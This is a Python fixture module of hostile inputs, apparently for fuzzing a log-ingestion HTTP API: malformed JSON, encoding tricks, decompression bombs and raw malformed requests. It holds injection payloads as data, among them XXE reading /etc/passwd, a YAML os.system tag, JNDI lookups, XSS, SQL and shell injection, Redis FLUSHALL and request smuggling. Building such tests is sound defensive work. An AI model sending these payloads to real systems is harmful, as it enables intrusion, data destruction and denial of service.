"""Bodies, headers, addresses and raw requests that a front door must survive. Each has a name, for the report.

``CANARY`` is planted wherever there is room: no error body may repeat it.
"""

from __future__ import annotations

import gzip
import json
import os
import pickle
import zlib
from dataclasses import dataclass, field
from functools import cache

import zstandard

CANARY = "canary7f3e9d"
C = CANARY.encode()
JSON = "application/json"


@dataclass(frozen=True)
class Hostile:
    name: str
    body: bytes
    headers: dict[str, str] = field(default_factory=lambda: {"content-type": JSON})


def deep(opening: bytes, closing: bytes, depth: int, core: bytes = b"1") -> bytes:
    return opening * depth + core + closing * depth


@cache
def zeros(gibibytes: float, kind: str) -> bytes:
    packer = {
        "gzip": lambda: zlib.compressobj(9, wbits=31),
        "deflate": lambda: zlib.compressobj(9),
        "zstd": lambda: zstandard.ZstdCompressor(level=3).compressobj(),
    }[kind]()
    piece = b"\0" * 2**22
    return b"".join([*(packer.compress(piece) for _ in range(int(gibibytes * 256))), packer.flush()])


def encoded(name: str, body: bytes, encoding: str) -> Hostile:
    return Hostile(name, body, {"content-type": JSON, "content-encoding": encoding})


LINES = json.dumps({"lines": [CANARY] * 50, "log": CANARY, "log_text": CANARY, "log_texts": [CANARY]}).encode()


def in_every_field(value: bytes) -> bytes:
    """A JSON body that has ``value`` wherever an endpoint looks for one."""
    keys = (b"lines", b"logs", b"log", b"log_seq", b"log_text", b"log_texts", b"threshold", b"muted", b"stream")
    return b'{"c":"' + C + b'",' + b",".join(b'"%s":%s' % (key, value) for key in keys) + b"}"


def in_lists(value: bytes) -> bytes:
    return in_every_field(b"[" + value + b"]")


def bodies() -> list[Hostile]:
    """Sent to every endpoint that takes a body."""
    shapes = {
        "empty": b"",
        "whitespace_only": b" \t\r\n" * 100,
        "deep_arrays": deep(b"[", b"]", 100_000),
        "deep_arrays_unclosed": b"[" * 100_000,
        "deep_objects": deep(b'{"a":', b"}", 100_000),
        "deep_alternating": deep(b'[{"a":', b"}]", 50_000),
        "deep_in_a_record": in_lists(deep(b"[", b"]", 5_000)),
        "deep_within_the_limit_many_times": b"[" + b",".join([deep(b"[", b"]", 60)] * 2000) + b"]",
        "deep_inside_strings_only": json.dumps(["[" * 5000 + CANARY]).encode(),
        "unterminated_array": b'["' + C + b'"',
        "unterminated_string": b'["' + C,
        "unterminated_object": b'{"lines":["' + C + b'"]',
        "closing_brackets_only": b"]" * 1000,
        "trailing_comma": b'["' + C + b'",]',
        "comments": b'["' + C + b'" /* no */]',
        "single_quotes": b"['" + C + b"']",
        "nan": in_every_field(b"NaN"),
        "nan_in_lists": in_lists(b"NaN,Infinity,-Infinity"),
        "infinity": in_every_field(b"Infinity"),
        "float_too_large": in_every_field(b"1e999"),
        "integer_of_5000_digits": in_every_field(b"9" * 5000),
        "integer_of_a_million_digits": in_every_field(b"9" * 10**6),
        "float_of_5000_digits": in_every_field(b"0." + b"3" * 5000),
        "exponent_bomb": in_every_field(b"1e-99999999999"),
        "minus_zero": in_every_field(b"-0"),
        "huge_key": b'{"' + C * 90_000 + b'":1}',
        "many_keys": json.dumps({f"{CANARY}{n}": n for n in range(20_000)}).encode(),
        "duplicate_keys": b'{"lines":["a"],"lines":["' + C + b'"],"log":"a","log":"' + C + b'","log":1}',
        "empty_key": b'{"":"' + C + b'"}',
        "prototype_keys": b'{"__proto__":{"a":1},"constructor":"' + C + b'","__class__":1}',
        "lone_surrogate_value": in_every_field(b'"\\ud800' + C + b'"'),
        "lone_surrogate_in_lists": in_lists(b'"\\udfff' + C + b'"'),
        "lone_surrogate_key": b'{"\\ud800' + C + b'":1,"log":"\\udc00"}',
        "reversed_surrogate_pair": in_lists(b'"\\udc00\\ud800' + C + b'"'),
        "surrogates_as_utf8": in_lists(b'"\xed\xa0\x80' + C + b'"'),
        "bad_escape": in_lists(b'"\\x41' + C + b'"'),
        "short_escape": in_lists(b'"\\u12"'),
        "nul_raw": in_lists(b'"\0' + C + b'"'),
        "nul_escaped": in_lists(b'"\\u0000' + C + b'"'),
        "nul_body": b"\0" * 10_000,
        "control_characters": in_lists(b'"' + bytes(range(1, 32)).replace(b'"', b"") + C + b'"'),
        "ansi": in_lists(b'"\\u001b[31m' + C + b'\\u001b]8;;http://x\\u0007"'),
        "bidi_and_zero_width": json.dumps({"lines": ["\u202e\u2066\u200b\ufeff" + CANARY], "log": "\u202e"}).encode(),
        "line_separators": json.dumps({"lines": ["a\u2028b\u2029c\x85d\x0be\x0cf" + CANARY]}).encode(),
        "noncharacters": json.dumps({"lines": ["\ufffe\uffff\U0010ffff" + CANARY], "log": "\ufffe"}).encode(),
        "utf16_le_bom": b"\xff\xfe" + LINES.decode().encode("utf-16-le"),
        "utf16_be_bom": b"\xfe\xff" + LINES.decode().encode("utf-16-be"),
        "utf16_without_bom": LINES.decode().encode("utf-16-le"),
        "utf16_odd_length": b"\xff\xfe" + LINES.decode().encode("utf-16-le") + b"x",
        "utf32": LINES.decode().encode("utf-32"),
        "utf8_bom": b"\xef\xbb\xbf" + LINES,
        "utf8_overlong": in_lists(b'"\xc0\xaf\xe0\x80\xaf' + C + b'"'),
        "utf8_cut": in_lists(b'"\xe4\xb8' + C + b'"'),
        "gbk": json.dumps({"lines": ["数据库连接失败 " + CANARY]}, ensure_ascii=False).encode("gb18030"),
        "latin1": in_lists(b'"caf\xe9 ' + C + b'"'),
        "random_bytes": os.urandom(100_000),
        "line_of_10_mb": C + b"x" * 10 * 2**20,
        "string_of_10_mb": b'{"lines":["' + C + b"x" * 10 * 2**20 + b'"],"log":"' + C + b'"}',
        "log_of_10_mb": b'{"log":"' + C + b"x" * 10 * 2**20 + b'","log_text":"a","log_texts":["a"]}',
        "wrong_type_of_10_mb": b'{"log":["' + C + b"y" * 10 * 2**20 + b'"],"muted":"' + C + b'"}',
        "million_empty_lines": b"\n" * 10**6,
        "million_carriage_returns": b"\r" * 10**6,
        "hundred_fifty_thousand_lines": b"a\n" * 150_000,
        "million_elements": b"[" + b"0," * 10**6 + b"0]",
        "eight_million_commas": b"[" + b"," * 8 * 10**6 + b"]",
        "million_empty_objects": b"[" + b"{}," * 10**6 + b"{}]",
        "many_streams": json.dumps([{"message": "m", "stream": f"{CANARY}{n}"} for n in range(2000)]).encode(),
        "top_number": b"42",
        "top_string": b'"' + C + b'"',
        "top_true": b"true",
        "top_null": b"null",
        "nulls_everywhere": in_every_field(b"null"),
        "nulls_in_lists": in_lists(b"null,null"),
        "numbers_everywhere": in_every_field(b"7"),
        "numbers_in_lists": in_lists(b"1,2.5,-3"),
        "booleans_everywhere": in_every_field(b"true"),
        "booleans_in_lists": in_lists(b"true,false"),
        "objects_everywhere": in_every_field(b'{"a":"' + C + b'"}'),
        "objects_in_lists": in_lists(b'{"a":"' + C + b'"},{}'),
        "lists_in_lists": in_lists(b'["' + C + b'"],[[]]'),
        "empty_strings": in_every_field(b'""'),
        "empty_strings_in_lists": in_lists(b'"",""'),
        "empty_lists": in_every_field(b"[]"),
        "empty_objects": in_every_field(b"{}"),
        "blank_strings": in_lists(b'"  \\t ","\\n\\n"'),
        "threshold_text": b'{"log":"' + C + b'","log_texts":["a"],"threshold":"' + C + b'"}',
        "threshold_far_out": b'{"log":"' + C + b'","log_texts":["a"],"threshold":1e300}',
        "odd_record_fields": json.dumps(
            [
                {"message": CANARY, "timestamp": t, "level": v, "source": s, "stream": s}
                for t in (1e308, -1, True, {}, [], "99999-99-99", "0", 10**18, "\x00")
                for v in (1e308, -5, True, {}, CANARY * 100)
                for s in (None, 5, {}, "\x00", "x" * 5000, "../" * 50)
            ]
        ).encode(),
        "stream_names": json.dumps(
            [
                {"message": "m", "stream": s}
                for s in (
                    "..",
                    "../../etc/passwd",
                    "seq/x",
                    "seq/" + CANARY,
                    "\0",
                    "\u202e",
                    "流",
                    "a" * 5000,
                    "ll:stream:x",
                    "*",
                )
            ]
        ).encode(),
        "stream_lone_surrogate": b'[{"message":"m","stream":"\\ud800"},{"message":"m","source":"\\ud800"}]',
        "python_pickle": pickle.dumps({"lines": [CANARY]}),
        "xml_entities": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;' + C + b"</x>",
        "yaml_tag": b"!!python/object/apply:os.system ['echo " + C + b"']",
        "form_urlencoded": b"log=" + C + b"&log_text=" + C,
        "multipart": b'--b\r\nContent-Disposition: form-data; name="f"; filename="x"\r\n\r\n' + C + b"\r\n--b--\r\n",
        "protobuf_noise": b"\x0a\x12" + C + b"\x12\x00\xff\xff\xff\xff\x0f",
        "msgpack": b"\x82\xa5lines\x91\xacc" + C,
        "script_tags": in_lists(b'"<script>alert(1)</script>' + C + b'<img src=x onerror=alert(1)>"'),
        "template_injection": in_lists(b'"{{7*7}}{% raw %}${jndi:ldap://x/' + C + b'}%s%n%x"'),
        "crlf_injection": in_lists(b'"' + C + b'\\r\\nSet-Cookie: a=b\\r\\n\\r\\n"'),
        "sql_and_shell": in_lists(b"\"'; DROP TABLE x; -- `id` $(id) | id " + C + b'"'),
        "redis_protocol": b"*1\r\n$8\r\nFLUSHALL\r\n" + C,
        "spaces_1_mb": b" " * 2**20 + C,
        "digits_1_mb": in_lists(b'"' + b"1" * 2**20 + b'"'),
        "slashes_1_mb": in_lists(b'"' + b"/" * 2**20 + b'"'),
        "brackets_1_mb": in_lists(b'"' + b"([{<" * 2**18 + b'"'),
        "dots_and_colons_1_mb": in_lists(b'"' + b"1.2:3-" * 170_000 + b'"'),
        "quotes_1_mb": in_lists(b'"' + b'\\"a=' * 2**18 + b'"'),
        "trace_of_100_000_lines": b"Traceback (most recent call last):\n" + b'  File "x", line 1\n' * 100_000,
        "ndjson_broken_in_the_middle": b'{"message":"a"}\n{"message":"' + C + b"\n{}\n[1]\n42\n",
        "concatenated_objects_broken": b'{"a":1}{"b":' + C,
        "json_then_binary": b'{"lines":["a"]}' + b"\x00\xff" + C,
    }
    return [Hostile(name, body) for name, body in shapes.items()] + [
        *(Hostile(f"text_type_{n}", shapes[n], {"content-type": "text/plain"})
          for n in ("deep_arrays", "nul_body", "random_bytes", "utf16_le_bom", "unterminated_array", "gbk")),
        *(Hostile(f"ndjson_type_{n}", shapes[n], {"content-type": "application/x-ndjson"})
          for n in ("deep_objects", "unterminated_object", "ndjson_broken_in_the_middle", "lone_surrogate_key")),
        Hostile("no_content_type", LINES, {}),
        Hostile("lying_form_type", LINES, {"content-type": "application/x-www-form-urlencoded"}),
        Hostile("lying_multipart_type", LINES, {"content-type": "multipart/form-data; boundary=b"}),
        Hostile("long_content_type", LINES, {"content-type": "text/" + CANARY * 500}),
        Hostile("odd_charset", LINES, {"content-type": f"application/json; charset={CANARY}"}),
        encoded("gzip_bomb_1_gib", zeros(1, "gzip"), "gzip"),
        encoded("gzip_bomb_sniffed", zeros(0.25, "gzip"), ""),
        encoded("deflate_bomb", zeros(0.25, "deflate"), "deflate"),
        encoded("zstd_bomb_1_gib", zeros(1, "zstd"), "zstd"),
        encoded("gzip_nested", gzip.compress(gzip.compress(LINES)), "gzip"),
        encoded("gzip_nested_ten_times", _nested(10), "gzip"),
        encoded("gzip_truncated", gzip.compress(LINES)[:-5], "gzip"),
        encoded("gzip_head_only", gzip.compress(LINES)[:10], "gzip"),
        encoded("gzip_wrong_checksum", gzip.compress(LINES)[:-8] + b"\0" * 8, "gzip"),
        encoded("gzip_trailing_garbage", gzip.compress(LINES) + C, "gzip"),
        encoded("gzip_of_nothing", gzip.compress(b""), "gzip"),
        encoded("gzip_100_000_members", gzip.compress(b"") * 100_000, "gzip"),
        encoded("gzip_claimed_but_plain", LINES, "gzip"),
        encoded("gzip_magic_alone", b"\x1f\x8b", ""),
        encoded("deflate_noise", b"\x78\x9c" + C, "deflate"),
        encoded("zstd_noise", b"\x28\xb5\x2f\xfd" + C, "zstd"),
        encoded("zstd_truncated", zstandard.compress(LINES)[:-3], "zstd"),
        encoded("zstd_huge_window", b"\x28\xb5\x2f\xfd\x00\xf8" + b"\0" * 20, "zstd"),
        encoded("zstd_claims_an_exabyte", b"\x28\xb5\x2f\xfd\xe0" + b"\xff" * 7 + b"\x0f" + C, "zstd"),
        encoded("zstd_skippable_frames", b"\x50\x2a\x4d\x18\x04\0\0\0abcd" * 1000, "zstd"),
        encoded("encoding_unknown", LINES, CANARY),
        encoded("encoding_brotli", LINES, "br"),
        encoded("encoding_twice", gzip.compress(gzip.compress(LINES)), "gzip, gzip"),
        encoded("body_over_16_mib", C + b"x" * (17 * 2**20), "identity"),
    ]  # fmt: skip


def _nested(times: int) -> bytes:
    body = LINES
    for _ in range(times):
        body = gzip.compress(body)
    return body


IDS = {
    "traversal": "..%2f..%2fetc%2fpasswd",
    "traversal_plain": "../../etc/passwd",
    "dots": "..",
    "nul": "j%00",
    "unicode_dots": "%E2%80%A5%2F",
    "fullwidth_digits": "j%EF%BC%91%EF%BC%92",
    "invalid_utf8": "%ff%fe",
    "overlong_slash": "%c0%af",
    "double_encoded": "%252e%252e%252f",
    "long": CANARY + "a" * 5000,
    "spaces": "%20%20",
    "glob": "*",
    "redis_key": "ll:job:*",
    "newline": "j%0d%0aSet-Cookie:%20a=b",
    "upper": "J01K9X3C5E6F7G8H9" + CANARY.upper(),
    "script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "surrogate": "%ED%A0%80",
    "percent": "%",
    "bad_percent": "%zz",
    "semicolon": "j;x=1",
    "backslash": "..%5c..%5cx",
    "canary": CANARY,
    "almost_a_job": "j" + "0" * 26,
    "almost_a_job_from_the_future": "j" + "z" * 26,
    "almost_an_incident": "i0123456789abcdef",
    "empty_looking": "%E2%80%8B",
}

QUERIES = {
    "wait_text": f"wait={CANARY}",
    "wait_nan": "wait=nan",
    "wait_infinite": "wait=inf",
    "wait_negative": "wait=-1",
    "wait_huge_digits": "wait=" + "9" * 400,
    "wait_twice": f"wait=0&wait={CANARY}",
    "wait_empty": "wait=",
    "wait_fullwidth": "wait=%EF%BC%91",
    "window_unknown": f"window={CANARY}",
    "window_zero": "window=fixed:0",
    "window_negative": "window=sliding:10:-1",
    "window_nan": "window=time:nan",
    "window_infinite": "window=time:inf",
    "window_huge": "window=fixed:" + "9" * 5000,
    "window_superscript": "window=fixed:%C2%B2",
    "window_own_pattern": "window=session:/(a%2B)%2B$/:30",
    "window_many_colons": "window=" + ":" * 1000,
    "stream_nul": "stream=%00",
    "stream_traversal": "stream=../../x",
    "stream_invalid_utf8": "stream=%ff%fe",
    "stream_surrogate": "stream=%ED%A0%80",
    "stream_long": "stream=" + "s" * 5000,
    "stream_reserved": "stream=seq/j01",
    "dry_run_text": f"dry_run={CANARY}",
    "limit_text": f"limit={CANARY}",
    "limit_zero": "limit=0",
    "limit_huge": "limit=" + "9" * 4400,
    "muted_text": f"muted={CANARY}",
    "lang_script": "lang=%3Cscript%3E",
    "lang_nul": "lang=zh%00",
    "id_traversal": "id=..%2f..%2fx",
    "id_newline": "id=j%0d%0aSet-Cookie:%20a=b",
    "semicolons": f"{CANARY};{CANARY}",
    "thousand_parameters": "&".join(f"{CANARY}{n}=1" for n in range(1000)),
}

HEADERS = {
    "idempotency_key_empty": {"idempotency-key": ""},
    "idempotency_key_long": {"idempotency-key": CANARY * 500},
    "idempotency_key_bytes": {"idempotency-key": b"\xff\xfe\x80"},
    "stream_header_bytes": {"x-loglynx-stream": b"\xff\xfe\x80"},
    "stream_header_long": {"x-loglynx-stream": CANARY * 500},
    "accept_language_noise": {"accept-language": "zh;q=x,;;,=,en;q=nan," + CANARY * 50},
    "accept_noise": {"accept": CANARY * 100},
    "host_noise": {"host": CANARY},
    "forwarded": {"x-forwarded-for": CANARY, "x-forwarded-host": CANARY, "x-original-url": "/admin"},
    "method_override": {"x-http-method-override": "DELETE"},
    "range": {"range": "bytes=0-0,-1"},
    "many": {f"x-{CANARY}-{n}": "v" for n in range(500)},
}


def raw_requests(push_key: str) -> dict[str, bytes]:
    """Whole requests as bytes, for what no client library would send."""
    head = b"POST /api/v1/ingest HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + push_key.encode() + b"\r\n"
    body = b'["' + C + b'"]'
    return {
        "garbage": b"\x16\x03\x01\x02\x00\x01\x00" + C + b"\r\n\r\n",
        "random": os.urandom(2000) + b"\r\n\r\n",
        "http2_preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "http_09": b"GET /\r\n\r\n",
        "http_99": b"GET /" + C + b" HTTP/9.9\r\n\r\n",
        "no_host": b"GET /healthz HTTP/1.1\r\n\r\n",
        "lower_case_method": b"get / HTTP/1.1\r\nHost: x\r\n\r\n",
        "unknown_method": C.upper() + b" / HTTP/1.1\r\nHost: x\r\n\r\n",
        "trace": b"TRACE / HTTP/1.1\r\nHost: x\r\n\r\n",
        "connect": b"CONNECT evil:443 HTTP/1.1\r\nHost: evil:443\r\n\r\n",
        "options_star": b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
        "absolute_uri": b"GET http://" + C + b"/jobs/x HTTP/1.1\r\nHost: x\r\n\r\n",
        "path_bytes": b"GET /jobs/\xff\xfe" + C + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        "path_nul": b"GET /jobs/\0" + C + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        "path_of_60_kb": b"GET /" + C * 5000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        "path_double_slash": b"GET //evil.example/" + C + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        "header_of_100_kb": b"GET / HTTP/1.1\r\nHost: x\r\nX: " + C * 8400 + b"\r\n\r\n",
        "header_without_end_1_mb": b"GET / HTTP/1.1\r\nHost: x\r\nX: " + C * 87_000,
        "ten_thousand_headers": b"GET / HTTP/1.1\r\nHost: x\r\n" + (b"X: " + C + b"\r\n") * 10_000 + b"\r\n",
        "header_without_colon": b"GET / HTTP/1.1\r\nHost x\r\n" + C + b"\r\n\r\n",
        "header_with_nul": b"GET / HTTP/1.1\r\nHost: x\r\nX: \0" + C + b"\r\n\r\n",
        "header_folded": b"GET / HTTP/1.1\r\nHost: x\r\nX: a\r\n " + C + b"\r\n\r\n",
        "bare_line_feeds": b"GET / HTTP/1.1\nHost: x\n\n",
        "authorization_of_30_kb": b"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + C * 2500 + b"\r\n\r\n",
        "authorization_bytes": b"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic \xff\xfe" + C + b"\r\n\r\n",
        "two_authorizations": head + b"Authorization: Bearer " + C + b"\r\nContent-Length: 0\r\n\r\n",
        "length_negative": head + b"Content-Length: -1\r\n\r\n" + body,
        "length_text": head + b"Content-Length: " + C + b"\r\n\r\n" + body,
        "length_huge": head + b"Content-Length: 99999999999999999999999999\r\n\r\n" + body,
        "length_17_mib_unsent": head + b"Content-Length: 17825793\r\n\r\n" + body,
        "length_twice": head + b"Content-Length: 5\r\nContent-Length: 16\r\n\r\n" + body,
        "length_and_chunked": head + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "chunk_size_text": head + b"Transfer-Encoding: chunked\r\n\r\n" + C + b"\r\n",
        "chunk_size_huge": head + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n" + body,
        "chunk_extension_long": head + b"Transfer-Encoding: chunked\r\n\r\n1;" + C * 9000 + b"\r\nx\r\n0\r\n\r\n",
        "chunked_twice": head + b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
        "encoding_identity_smuggled": head + b"Transfer-Encoding: identity\r\nContent-Length: 2\r\n\r\n[]",
        "expect_unknown": head + b"Expect: " + C + b"\r\nContent-Length: 2\r\n\r\n[]",
        "websocket": b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n",
        "h2c_upgrade": b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
        "body_shorter_than_length": head + b"Content-Length: 100\r\n\r\n" + body,
        "pipelined": (head + b"Content-Length: 2\r\n\r\n[]") * 20,
    }
